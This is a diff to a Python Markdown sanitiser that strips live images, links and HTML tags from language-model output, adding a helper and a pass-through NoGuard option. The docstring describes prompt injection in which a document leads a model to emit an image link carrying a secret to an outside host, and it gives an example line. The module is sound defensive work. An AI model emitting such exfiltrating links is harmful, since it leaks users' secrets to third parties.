@@ -1,4 +1,4 @@
-"""What a language model wrote, made harmless for pages that show it as Markdown.
+"""What a language model or a document wrote, made harmless for pages that show it as Markdown.
 
 A document can talk a model into writing ``![](https://elsewhere/?q=secret)``, which a browser fetches without a click.
 Images, links and HTML tags lose the characters that make them work, and stay readable: ``![a](b)`` becomes ``[a] (b)``
@@ -10,15 +10,23 @@ takes a click.
 from __future__ import annotations
 
 import re
+from typing import Literal
 
 from pipelines.query.data_lines import visible
 
+Guarded = Literal["all", "model", "none"]
 _FENCE = re.compile(r"(`{3,}|~{3,})[^`\n]*$")
 _TICKS = re.compile(r"`+")
 _LIVE = re.compile(r"!(?=\[)|(?<=\])(?=\()|(?<=<)(?=[A-Za-z/!?])")
 _DEFINITION = re.compile(r"([\s>*+\-.)\d]{0,40}\[(?!\d{1,4}\])[^\]]{0,400}\]):")
 _UNDECIDED = re.compile(r"[!\]<\\]$")
 _LONGEST_HELD = 400
+
+
+def harmless(text: str) -> str:
+    """Return a whole text without live markup."""
+    guard = OutputGuard()
+    return guard.feed(text) + guard.finish()
 
 
 class OutputGuard:
@@ -107,6 +115,18 @@ class OutputGuard:
             if not self._open_ticks:
                 found.append((start, end))
         return found
+
+
+class NoGuard:
+    """Passes text on as it is."""
+
+    def feed(self, text: str) -> str:
+        """Return the text."""
+        return text
+
+    def finish(self) -> str:
+        """Return nothing: nothing is held back."""
+        return ""
 
 
 def _unclosed(part: str) -> int | None:
